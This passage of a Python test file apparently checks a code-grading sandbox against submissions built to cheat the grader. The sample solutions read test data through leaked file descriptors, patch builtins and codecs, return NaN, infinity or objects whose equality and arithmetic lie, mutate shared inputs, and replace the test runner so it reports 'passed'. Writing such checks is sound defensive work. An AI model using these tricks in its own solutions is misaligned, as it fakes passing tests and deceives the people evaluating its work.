    try: data = os.pread(fd, 999, 0)
    except OSError: continue
    if data and fd > 2: print(data.decode(errors='replace'))
""",
    stdin_patches_text="""
import builtins, codecs
builtins.str = builtins.print = lambda *a: 0
codecs.decode = lambda *a: '6'
""",
)
attacks(
    (Calls("find_zero", [[[2, 3, 1]]], [-1.0], oracle="evalplus-humaneval", atol=1e-6),),
    "def find_zero(xs): return -1.0",
    zero_is_not_a_number="def find_zero(xs): return float('nan')",
    zero_is_infinite="def find_zero(xs): return float('inf')",
    zero_changes_between_two_looks="""
class Zero:
    def __init__(self, xs): self.answers = [9.0, -xs[0] / xs[1], 0.0]
    def __float__(self): return self.answers.pop(0)
def find_zero(xs): return Zero(xs)
""",
    zero_multiplies_as_it_likes="""
class Z:
    __rpow__ = __pow__ = __mul__ = __rmul__ = __float__ = lambda *a: 0.0
def find_zero(xs): return Z()
""",
)
attacks(
    (Calls("surface_Area", [[3, 4]], [33], oracle="evalplus-mbpp", atol=1e-6),),
    "def surface_Area(b, s): return 2 * b * s + b * b",
    oracle_arithmetic="class Z:\n    __sub__ = __rsub__ = __abs__ = lambda *a: 0\ndef surface_Area(b, s): return Z()",
)
attacks(
    (
        Calls("f", [[1]], [[1.5]], oracle="evalplus-humaneval", atol=1e-6),
        Calls("f", [[1]], [[1.5]], oracle="evalplus-mbpp", atol=1e-6),
    ),
    "def f(x): return [x + 0.5]",
    oracle_empty_list="def f(x): return []",
    oracle_list_of_lists="def f(x): return [[]]",
    oracle_not_a_number="def f(x): return [float('nan')]",
    oracle_infinite="def f(x): return [float('inf')]",
    oracle_array="import numpy\ndef f(x): return numpy.empty((0, 1))",
)
_shared = [3, 1, 2]
attacks(
    (
        Calls("f2", [[_shared]], [_shared]),
        Calls("f2", [[_shared], [_shared]], [[3, 1, 2], [3, 1, 2]]),
    ),
    "def f2(xs): return list(xs)",
    inputs_are_not_the_expected_values="def f2(xs):\n    xs.clear()\n    return []",
    inputs_of_one_call_are_not_those_of_the_next="def f2(xs):\n    xs[:] = xs[:1]\n    return xs",
)

#: What is not kept out, as `plum_hub.sandbox` says: tests that share a process with a program that knows this sandbox.
KNOWN: dict[str, Attack] = {
    "unittest-verdicts-by-who-read-our-source": Attack(
        """
from inside import together
together.run = lambda code, kind, token, space: [('t', 'failed' if token else 'passed', token)]
""",
        (CASE,),
    ),
    "unittest-equal-to-all-but-the-impossible": Attack(
        """
class Liar:
    __eq__ = lambda s, o: type(o).__name__ != "Impossible"
    __ne__ = lambda s, o: type(o).__name__ == "Impossible"
def f(x): return Liar()
def f2(xs): return [1, 2, 3]
""",
        (CASE,),
    ),
}
